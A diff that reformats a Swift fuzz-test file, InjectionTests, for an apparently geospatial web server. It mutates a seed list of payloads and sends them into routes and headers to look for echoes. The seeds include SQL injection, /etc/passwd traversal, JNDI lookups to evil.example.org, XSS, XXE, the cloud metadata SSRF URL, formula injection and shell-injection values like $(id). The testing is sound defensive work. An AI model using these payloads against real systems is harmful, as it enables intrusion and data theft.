@@ -10,20 +10,33 @@ import Privacy
 /// Texts that mean something elsewhere, as every parameter and part of a path.
 @Suite struct InjectionTests {
     private static let seeds = [
-        "' OR '1'='1", "'; DROP TABLE incidents;--", "1 UNION SELECT sql FROM sqlite_master", "\" OR \"\"=\"", "1;ATTACH DATABASE '/tmp/x' AS y",
-        "x' AND (SELECT load_extension('/tmp/x'))--", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
-        "\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK\r\n", "x\nLocation: http://evil.example.org", "${jndi:ldap://evil.example.org/a}",
-        "${${lower:j}ndi:rmi://127.0.0.1/x}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "%s%s%s%n", "%x%x%x%x", "%n%n%n%n%n", "%99999999d",
-        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)",
-        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", "http://169.254.169.254/latest/meta-data/",
+        "' OR '1'='1", "'; DROP TABLE incidents;--", "1 UNION SELECT sql FROM sqlite_master", "\" OR \"\"=\"",
+        "1;ATTACH DATABASE '/tmp/x' AS y",
+        "x' AND (SELECT load_extension('/tmp/x'))--", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
+        "/etc/passwd", "file:///etc/passwd",
+        "\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK\r\n", "x\nLocation: http://evil.example.org",
+        "${jndi:ldap://evil.example.org/a}",
+        "${${lower:j}ndi:rmi://127.0.0.1/x}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "%s%s%s%n", "%x%x%x%x",
+        "%n%n%n%n%n", "%99999999d",
+        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=cmd|' /C calc'!A0",
+        "+1+1", "@SUM(1+1)",
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+        "http://169.254.169.254/latest/meta-data/",
         "S_INTERSECTS(geometry,POLYGON((0 0,1e400 0,0 1,0 0)))", "category = 'a' OR 1=1", "((((((((((((((((((((((a=1",
-        "S_INTERSECTS(geometry,POLYGON((nan nan)))", "NOT NOT NOT NOT category IS NULL", "category LIKE '%%%%%%%%%%%%%%%%%%%%%%%%a'", "x IN ()",
-        "date('2024-13-45') < 1", "\u{0}", "a\u{0}b", "\u{202e}gnp.exe", "\u{feff}", "👩‍👩‍👧‍👦", "ı", "İ", "ﬀ", "\u{300}\u{300}\u{300}", "٣", "１２",
-        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1e308", "-1e308", "1e-400", "NaN",
-        "-Infinity", "0x7fffffff", "1_000", "1,000", "1.", ".1", "--1", "2024-02-30", "0000-00-00", "99999999-01-01", "-2024-01-01",
-        "2024-01-01T25:61:61Z", "../..", "2024-01-01/2023-01-01", "EPSG:99999999999", "+proj=pipeline +step +init=/etc/passwd", "EPSG:4326;x",
-        "urn:ogc:def:crs:EPSG::4326", "municipality:1@99999999999999999999", "a:b:c@d", ":::", "@", "knn:0", "knn:-1", "band:1e400", "*", "",
-        " ", "null", "undefined", "true", "__proto__", "constructor", "$(id)", "`id`", "| id", "; id", "&& id", "%0d%0a", "%00", "%ff", "%c0%ae", "%",
+        "S_INTERSECTS(geometry,POLYGON((nan nan)))", "NOT NOT NOT NOT category IS NULL",
+        "category LIKE '%%%%%%%%%%%%%%%%%%%%%%%%a'", "x IN ()",
+        "date('2024-13-45') < 1", "\u{0}", "a\u{0}b", "\u{202e}gnp.exe", "\u{feff}", "👩‍👩‍👧‍👦", "ı", "İ", "ﬀ",
+        "\u{300}\u{300}\u{300}", "٣", "１２",
+        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1e308", "-1e308",
+        "1e-400", "NaN",
+        "-Infinity", "0x7fffffff", "1_000", "1,000", "1.", ".1", "--1", "2024-02-30", "0000-00-00", "99999999-01-01",
+        "-2024-01-01",
+        "2024-01-01T25:61:61Z", "../..", "2024-01-01/2023-01-01", "EPSG:99999999999",
+        "+proj=pipeline +step +init=/etc/passwd", "EPSG:4326;x",
+        "urn:ogc:def:crs:EPSG::4326", "municipality:1@99999999999999999999", "a:b:c@d", ":::", "@", "knn:0", "knn:-1",
+        "band:1e400", "*", "",
+        " ", "null", "undefined", "true", "__proto__", "constructor", "$(id)", "`id`", "| id", "; id", "&& id",
+        "%0d%0a", "%00", "%ff", "%c0%ae", "%",
         "%zz",
     ]
 
@@ -32,12 +45,16 @@ import Privacy
         var generator = SeededGenerator(seed: 6)
         var made = seeds
         while made.count < 2_000 {
-            let (one, other) = (seeds.randomElement(using: &generator) ?? "", seeds.randomElement(using: &generator) ?? "")
+            let (one, other) = (
+                seeds.randomElement(using: &generator) ?? "", seeds.randomElement(using: &generator) ?? ""
+            )
             switch Int.random(in: 0..<5, using: &generator) {
             case 0: made.append(one + other)
             case 1: made.append(other + one + String(made.count))
             case 2: made.append(String(one.prefix(Int.random(in: 0...max(1, one.count), using: &generator))) + other)
-            case 3: made.append(String(repeating: one.isEmpty ? "a" : one, count: Int.random(in: 2...40, using: &generator)))
+            case 3:
+                made.append(
+                    String(repeating: one.isEmpty ? "a" : one, count: Int.random(in: 2...40, using: &generator)))
             default: made.append(one.unicodeScalars.map { String($0) + other.prefix(1) }.joined())
             }
         }
@@ -50,7 +67,8 @@ import Privacy
     /// Each address with each of its parameters, and each address with each of its parts: `%` stands for the payload.
     private static func places(_ server: FaroServer) -> [String] {
         let usual = [
-            "set": "grid", "z": "1", "x": "0", "y": "0", "id": "x", "name": "x", "collection": "incidents", "feature": "1", "import": "1",
+            "set": "grid", "z": "1", "x": "0", "y": "0", "id": "x", "name": "x", "collection": "incidents",
+            "feature": "1", "import": "1",
         ]
         func filled(_ path: String, but part: String?) -> String {
             usual.reduce(path) { path, pair in
@@ -60,13 +78,19 @@ import Privacy
         return server.routes.flatMap { route -> [String] in
             let path = filled(route.path, but: nil)
             let snapshot = server.live.current
-            let names = route.parameters.union(route.moreParameters(snapshot, ["collection": "incidents"])).union(["f", "nonsense"])
+            let names = route.parameters.union(route.moreParameters(snapshot, ["collection": "incidents"])).union([
+                "f", "nonsense",
+            ])
             let asked = names.sorted().map { name in
                 // Of a day without incidents, which costs nothing.
-                let rest = route.parameters.contains("from") && name != "from" && name != "to" ? "&from=1990-01-01&to=1990-01-01" : ""
+                let rest =
+                    route.parameters.contains("from") && name != "from" && name != "to"
+                    ? "&from=1990-01-01&to=1990-01-01" : ""
                 return "\(path)?\(name)=\u{1}\(rest)"
             }
-            let parts = route.path.split(separator: "{").dropFirst().compactMap { $0.split(separator: "}").first.map(String.init) }
+            let parts = route.path.split(separator: "{").dropFirst().compactMap {
+                $0.split(separator: "}").first.map(String.init)
+            }
             return asked + parts.map { filled(route.path, but: $0) } + ["\(path)?\u{1}=1", path + "/\u{1}"]
         }
     }
@@ -97,7 +121,9 @@ import Privacy
     /// Whether 41 characters of the payload, in a row, stand in a text, plain or as JSON writes them.
     private static func hasEcho(of payload: String, in text: String) -> Bool {
         let long = String(payload.prefix(41))
-        let json = (try? JSONEncoder().encode([long])).map { String(decoding: $0, as: UTF8.self).dropFirst(2).dropLast(2) } ?? ""
+        let json =
+            (try? JSONEncoder().encode([long])).map { String(decoding: $0, as: UTF8.self).dropFirst(2).dropLast(2) }
+            ?? ""
         return text.contains(long) || text.contains(json.replacingOccurrences(of: "\\/", with: "/"))
     }
 
@@ -105,7 +131,8 @@ import Privacy
         let server = try TestServer.city.get().server { $0.role = .admin }
         let responder = server.router().buildResponder()
         let names: [HTTPField.Name] = [
-            .accept, .acceptEncoding, .acceptLanguage, .authorization, .ifNoneMatch, .ifModifiedSince, .origin, .range, .userAgent, .referer, .cookie,
+            .accept, .acceptEncoding, .acceptLanguage, .authorization, .ifNoneMatch, .ifModifiedSince, .origin, .range,
+            .userAgent, .referer, .cookie,
             .forwardedHost, .forwardedProto,
         ]
         for (index, payload) in Self.payloads.prefix(600).enumerated() {
